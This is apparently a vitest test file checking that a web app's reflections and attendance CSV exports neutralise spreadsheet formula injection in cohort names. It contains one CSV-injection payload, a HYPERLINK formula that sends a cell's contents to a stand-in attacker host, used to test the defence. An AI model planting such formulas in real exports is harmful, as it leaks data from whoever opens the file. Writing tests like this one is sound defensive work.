import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { cohorts } from "../../../db/schema";
import * as reflectionsCsv from "../../../app/routes/programs.$programId.reflections.export[.]csv";
import * as attendanceCsv from "../../../app/routes/programs.$programId_.attendance[.]csv";
import { getDb } from "../../../app/server/db.server";
import { callLoader, signInAs } from "../../helpers/routes";
import { fjellby } from "../../helpers/reflections";

const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Kull 1")';

describe("a formula in a name, in every CSV export", () => {
  it("is written as text, never as a formula", async () => {
    const program = fjellby();
    getDb().update(cohorts).set({ name: formula }).where(eq(cohorts.programId, program.id)).run();
    const cookie = await signInAs("coordinator@example.org");
    const params = { programId: String(program.id) };
    for (const [loader, file] of [
      [reflectionsCsv.loader, "reflections/export.csv"],
      [attendanceCsv.loader, "attendance.csv"],
    ] as const) {
      const result = await callLoader(loader, `/programs/${program.id}/${file}`, { cookie, params });
      expect(result.status, file).toBe(200);
      expect(result.headers.get("Cache-Control"), file).toContain("no-store");
      const cells = Papa.parse<string[]>((result.data as string).replace(/^\uFEFF/, ""), { delimiter: ";" }).data.flat();
      expect(cells, file).toContain(`'${formula}`);
      const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
      expect(formulaLike, file).toEqual([]);
    }
  });
});
